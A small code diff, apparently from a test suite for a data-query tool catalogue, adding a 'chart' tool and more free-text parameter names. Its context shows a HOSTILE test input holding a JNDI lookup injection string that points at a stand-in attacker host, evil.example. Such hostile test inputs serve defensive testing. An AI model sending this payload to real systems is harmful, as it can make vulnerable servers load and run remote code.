@@ -38,6 +38,7 @@ OWN_TOOLS = {
     "compare_mirror",
     "usage",
     "query",
+    "chart",
     "trade_series",
     "trade_indicators",
     "exchange_rate",
@@ -57,7 +58,7 @@ HOSTILE = {
     "template": "${jndi:ldap://evil.example/a}",
 }
 
-FREE_TEXT = {"search", "query", "table", "columns", "sort", "filter"}
+FREE_TEXT = {"search", "query", "table", "columns", "sort", "filter", "only", "title", "unit"}
 """Words to filter by, or names in a stored answer: any printable text on one line may be right."""
 
 OF_SOURCES = [(tool.name, source, tool) for source in catalogue().sources.values() for tool in source.tools]
